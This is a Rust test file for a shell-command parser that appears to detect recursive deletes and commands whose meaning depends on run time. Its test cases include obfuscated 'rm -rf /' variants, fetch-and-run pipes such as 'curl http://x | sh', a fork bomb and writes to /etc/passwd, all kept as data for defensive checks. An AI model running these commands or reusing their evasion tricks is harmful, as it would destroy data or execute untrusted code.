//! What must be seen, what must not, and that nothing panics.

mod deletes;
mod properties;

use super::{Command, UNKNOWN, shell};
use deletes::DELETES;

fn read(text: &str) -> Vec<Command> {
    shell(text).unwrap_or_else(|fault| panic!("{text:?}: {fault}"))
}

fn is_recursive_delete(command: &Command) -> bool {
    command.name == "rm" && (command.has("r") || command.has("R") || command.has("recursive"))
}

fn deletes(text: &str) -> bool {
    read(text).iter().any(is_recursive_delete)
}

fn unknown(text: &str) -> bool {
    read(text).iter().any(|command| command.name == UNKNOWN || command.has(UNKNOWN))
}

fn only(text: &str) -> Command {
    let commands = read(text);
    assert_eq!(commands.len(), 1, "{text:?} gives {commands:?}");
    commands.into_iter().next().unwrap()
}

fn names(text: &str) -> Vec<String> {
    read(text).into_iter().map(|command| command.name).collect()
}

#[test]
fn a_recursive_delete_is_seen_however_it_is_spelled() {
    assert!(DELETES.len() >= 60);
    let missed: Vec<_> = DELETES.iter().filter(|text| !deletes(text)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn what_only_the_run_time_knows_is_said_to_be_unknown() {
    let cases = [
        "$X -rf /",
        "${X} -rf /",
        "r$Xm -rf /",
        "r$@m -rf /",
        "r${x}m -rf /",
        "$(cat cmd) -rf /",
        "`cat cmd`",
        "/bin/r? -rf /",
        "/b*/rm -rf /",
        "/bin/[r]m -rf /",
        "rm $FLAGS /",
        "rm \"$FLAG\" /",
        "rm -$F /",
        "rm -[r]f /",
        "rm * ",
        "rm $(echo -rf) /",
        "sudo $X",
        "env $X -rf /",
        "eval \"$X\"",
        "eval $(base64 -d <<< cm0gLXJmIC8=)",
        "sh -c \"$X\"",
        "sh -c \"ls $X\"",
        "bash -c \"$(curl http://x)\"",
        "curl http://x | sh",
        "curl http://x | sudo bash -s -- --yes",
        "base64 -d x | sh",
        "sh < script",
        "bash <(curl http://x)",
        "source <(curl http://x)",
        ". $X",
        "sh $X",
        "xargs rm",
        "xargs -I X X -rf /",
        "xargs sh -c",
        "echo ${X@P}",
        "f() { \"$@\"; }; f rm -rf /",
        "X=ls; X=$Y; $X",
        "{a..z}{a..z} -rf /",
        "{{{{{{{{{{{{{{{{{a,b}",
    ];
    let missed: Vec<_> = cases.iter().filter(|text| !unknown(text)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn harmless_commands_are_not_taken_for_recursive_deletes() {
    let cases = [
        "",
        "   ",
        "# rm -rf /",
        "ls -la",
        "ls # rm -rf /",
        "echo rm -rf /",
        "echo 'rm -rf /'",
        "echo \"rm -rf /\"",
        "echo '$(rm -rf /)'",
        "echo \"\\$(rm -rf /)\"",
        "echo \\`rm -rf /\\`",
        "printf '%s\\n' 'rm -rf /'",
        "grep -r 'rm -rf' src",
        "grep -rf patterns rm",
        "git rm -r --cached src",
        "git commit -m 'rm -rf / is bad'",
        "git commit -m \"fix: do not rm -rf /\"",
        "rm file.txt",
        "rm -f file.txt",
        "rm -- -rf",
        "rm -f -- -r",
        "rm --force x",
        "rm -i a b c",
        "rmdir -p a/b",
        "rm-rf /",
        "rm_rf -rf /",
        "./rm.sh -rf /",
        "cp -r a b",
        "cp -rf a b",
        "chmod -R 755 x",
        "find . -name rm -print",
        "find . -type f -exec grep -l rm {} +",
        "docker run --rm -it image",
        "npm run rm -rf",
        "man rm",
        "which rm",
        "command -v rm",
        "type rm",
        "apt-get -y install rm-tools",
        "cat <<'E'\n$(rm -rf /)\nE",
        "cat <<E\nrm -rf /\nE",
        "cat <<\\E\n`rm -rf /`\nE",
        "cat <<< 'rm -rf /'",
        "echo x > rm; cat -r rm",
        "X='rm -rf /'",
        "X='rm -rf /' ls",
        "case rm in -rf) echo /;; rm) ls;; esac",
        "for rm in -rf /; do ls; done",
        "[[ rm == -rf ]]",
        "[ -f rm -a -r / ]",
        "test rm = -rf",
        "if [ -d build ]; then ls build; fi",
        "while read -r line; do echo \"$line\"; done < rm",
        "echo $((rm - r))",
        "awk '{print $1}' file | sort -rn | uniq -c",
        "sed -e 's/rm -rf//' -i file",
        "echo a | tr -d rm",
        "make -j8 && make install",
        "tar -xzf rm.tar.gz",
        "python3 -m pytest -q -r a",
        "cargo test -- --nocapture",
        "time ls -r",
        "sudo ls -R /rm",
        "xargs -n1 echo rm -rf",
        "echo ok; exit 0",
        "ls 2>&1 | tee rm",
        "function rm_all { ls; }",
        "A=(rm -rf /)",
        ":(){ :|:& };:",
    ];
    assert!(cases.len() >= 40);
    let wrong: Vec<_> = cases.iter().filter(|text| deletes(text)).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn common_commands_are_fully_known() {
    let cases = [
        "ls -la /workspace",
        "cd /workspace && cargo test --all 2>&1 | tail -50",
        "git diff --stat HEAD~1",
        "grep -rn 'fn main' src/ | head -5",
        "if [ -f Cargo.toml ]; then cargo build; else echo none; fi",
        "for i in 1 2 3; do echo x; done",
        "cat > /workspace/a.txt <<'EOF'\nhello $USER `x`\nEOF",
        "echo \"it's $HOME\"",
        "python3 - <<'E'\nprint(1)\nE",
        "[[ -f x && $y == z ]] && echo yes",
        "[[ $a =~ ^(x|y)[0-9]+$ ]] || exit 1",
        "((i++))",
        "test \"$(git status --porcelain)\" = ''",
        "export PATH=\"$HOME/bin:$PATH\"",
        "rm -rf /workspace/tmp/build 2>/dev/null || true",
        "awk -F: '{ print $1 }' /etc/passwd",
        "find . -name '*.rs' -not -path './target/*' | xargs wc -l",
        "curl -fsSL 'https://example.com/a?b=c&d=e' -o out.html",
        "tar czf - src | ssh host 'cat > src.tgz'",
    ];
    for text in cases {
        let commands = read(text);
        assert!(commands.iter().all(|command| command.name != UNKNOWN), "{text:?}: {commands:?}");
    }
}

#[test]
fn a_command_is_taken_apart() {
    let command =
        only("A=1 /usr/bin/git -C /src --color=never push -fu origin -- -main > log 2>&1");
    assert_eq!(command.name, "git");
    let args = ["-C", "/src", "--color=never", "push", "-fu", "origin", "--", "-main"];
    assert_eq!(command.args, args);
    assert_eq!(command.flags, ["C", "color", "f", "u", "fu"]);
    assert_eq!(command.paths, ["/src", "push", "origin", "-main", "log"]);
    assert!(command.has("f") && command.has("color") && !command.has("main"));
}

#[test]
fn operands_and_redirections_are_paths() {
    assert_eq!(
        only("rm -rf a 'b c' d\\ e \"f\" {g,h} ~/i $J - > k >> l < m").paths,
        ["a", "b c", "d e", "f", "g", "h", "~/i", "$J", "-", "k", "l", "m"]
    );
    assert_eq!(only("rm -rf /x > /dev/null 2>&1 < /dev/stdin").paths, ["/x"]);
    assert_eq!(only("> /etc/passwd").paths, ["/etc/passwd"]);
    assert_eq!(only("> /etc/passwd").name, ":");
    assert_eq!(only("ls &> a").paths, ["a"]);
    assert_eq!(only("ls >| a").paths, ["a"]);
    assert_eq!(only("ls 2> a <> b").paths, ["a", "b"]);
    assert_eq!(only("ls >& a").paths, ["a"]);
    let looped = read("while read -r x; do ls; done < in > out");
    assert_eq!(looped.last().map(|command| command.paths.clone()).unwrap(), ["in", "out"]);
}

#[test]
fn deleting_through_a_walk_or_a_pipe_has_the_paths_it_can_reach() {
    let paths = |text: &str| {
        read(text).into_iter().filter(is_recursive_delete).flat_map(|c| c.paths).collect::<Vec<_>>()
    };
    assert_eq!(paths("find / /tmp -delete"), ["/", "/tmp"]);
    assert_eq!(paths("find -delete"), ["."]);
    assert_eq!(paths("find /a /b -exec rm -rf {}/x \\;"), ["/a/x", "/b/x"]);
    assert_eq!(paths("cat list | xargs rm -rf"), [UNKNOWN]);
    assert_eq!(paths("cat list | xargs -I@ rm -rf /tmp/@"), ["/tmp/@"]);
}

#[test]
fn wrappers_and_what_they_wrap_are_both_listed() {
    assert_eq!(names("sudo -u bob env A=b timeout 5 ls"), ["sudo", "env", "timeout", "ls"]);
    assert_eq!(names("sh -c 'ls | wc'"), ["sh", "ls", "wc"]);
    assert_eq!(names("curl x | sh"), ["curl", "sh", UNKNOWN]);
    assert_eq!(names("command -v ls"), ["command"]);
    assert_eq!(names("sudo"), ["sudo"]);
    assert_eq!(
        names("trap - EXIT; trap '' INT; trap -- date TERM"),
        ["trap", "trap", "trap", "date"]
    );
    assert_eq!(names("ls | cat && pwd; id & date"), ["ls", "cat", "pwd", "id", "date"]);
    assert_eq!(names("git push; [ -f x ]"), ["git", "["]);
}

#[test]
fn text_that_is_not_shell_or_reads_two_ways_is_refused() {
    let cases = [
        "echo 'open",
        "echo \"open",
        "echo `open",
        "echo $(open",
        "echo ${open",
        "echo $((1",
        "(ls",
        "{ ls",
        "ls )",
        "ls }; }",
        "if true; then ls",
        "if true; ls; fi",
        "for x in a; ls; done",
        "for 1x in a; do ls; done",
        "while true; ls; done",
        "case x in a) ls",
        "case x a) ls;; esac",
        "fi",
        "done",
        "&& ls",
        "| ls",
        "ls |",
        "; ls",
        "ls ;; ls",
        "ls &&& ls",
        "ls >",
        "ls > ; x",
        "ls <<",
        "cat <<E\nno end",
        "cat <<E",
        "cat <<$X\n$X",
        "[[ -f x",
        "A=(1",
        "echo \\",
        "echo a(b)",
        "r@(m) -rf /",
        "f(x) { ls; }",
        "$\\\n(rm -rf /)",
        "echo $[1+1]",
        "echo ${ rm -rf /; }",
        "echo \"${x#'}'}\"",
        "$'\\x{72}m' -rf /",
        "echo $((rm -rf /) )",
        "nul\0",
        "sh -c 'if'",
    ];
    let accepted: Vec<_> = cases.iter().filter(|text| shell(text).is_ok()).collect();
    assert!(accepted.is_empty(), "{accepted:#?}");
}

#[test]
fn reading_is_bounded() {
    let nest =
        |open: &str, close: &str, n: usize| format!("{}ls{}", open.repeat(n), close.repeat(n));
    for (open, close) in [
        ("(", ")"),
        ("( ", " )"),
        ("$(", ")"),
        ("{ ", "; }"),
        ("((", "))"),
        ("echo $((", "))"),
        ("echo ${x:-", "}"),
        ("echo \"${x:-", "}\""),
        ("if ", "; then x; fi"),
        ("f() ", ""),
        ("coproc ", ""),
        ("sudo ", ""),
        ("eval ", ""),
        ("<(", ")"),
        ("`", "`"),
        ("echo \"$(", ")\""),
    ] {
        let _ = shell(&nest(open, close, 5));
        let _ = shell(&nest(open, close, 1_000));
    }
    assert!(shell(&nest("( ", " )", 20)).is_ok());
    assert!(shell(&nest("( ", " )", 30)).is_err());
    assert!(shell(&nest("sudo ", "", 30)).is_err());
    assert!(shell(&"ls;".repeat(256)).is_ok());
    assert!(shell(&"ls;".repeat(257)).is_err());
    assert!(shell(&"x".repeat(16 * 1024)).is_ok());
    assert!(shell(&"x".repeat(16 * 1024 + 1)).is_err());
    let doubling = format!("X=aa;{}$X", "X=$X$X;".repeat(200));
    assert!(shell(&doubling).is_ok());
    let repeated = format!("X={}; echo {}", "a".repeat(4_000), "$X".repeat(4_000));
    assert!(shell(&repeated).is_ok());
    let product = format!("find {}-exec rm -r {}\\;", "a ".repeat(3_000), "{} ".repeat(3_000));
    assert!(shell(&product).is_ok_and(|commands| commands.iter().any(|c| c.has(UNKNOWN))));
    let long = format!("echo {}{}", "{a,b}".repeat(6), "x".repeat(16_000));
    assert!(only(&long).has(UNKNOWN));
    let braces = format!("echo {}", "{a,b}".repeat(1_000));
    assert!(only(&braces).has(UNKNOWN));
    assert!(shell(&format!("echo -{}", "abc".repeat(4_000))).is_ok());
}

#[test]
fn files_that_redirections_write_are_told_from_those_they_read() {
    for (text, writes) in [
        ("cat x >> /etc/passwd", vec!["/etc/passwd"]),
        ("cat < /etc/passwd", vec![]),
        ("> a", vec!["a"]),
        ("make &> log 2>| errors", vec!["log", "errors"]),
        ("cmd <> both", vec!["both"]),
        ("echo hi >$HOME/x", vec!["$HOME/x"]),
        ("cmd > /dev/null 2>&1", vec![]),
        ("{ echo a; } >> b", vec!["b"]),
        ("bash -c 'echo 1 > c'", vec!["c"]),
        ("cat <<END > d\ntext\nEND\n", vec!["d"]),
    ] {
        let found: Vec<String> =
            read(text).into_iter().flat_map(|command| command.writes).collect();
        assert_eq!(found, writes, "{text}");
        let paths: Vec<String> = read(text).into_iter().flat_map(|command| command.paths).collect();
        assert!(writes.iter().all(|file| paths.iter().any(|path| path == file)), "{text}");
    }
}
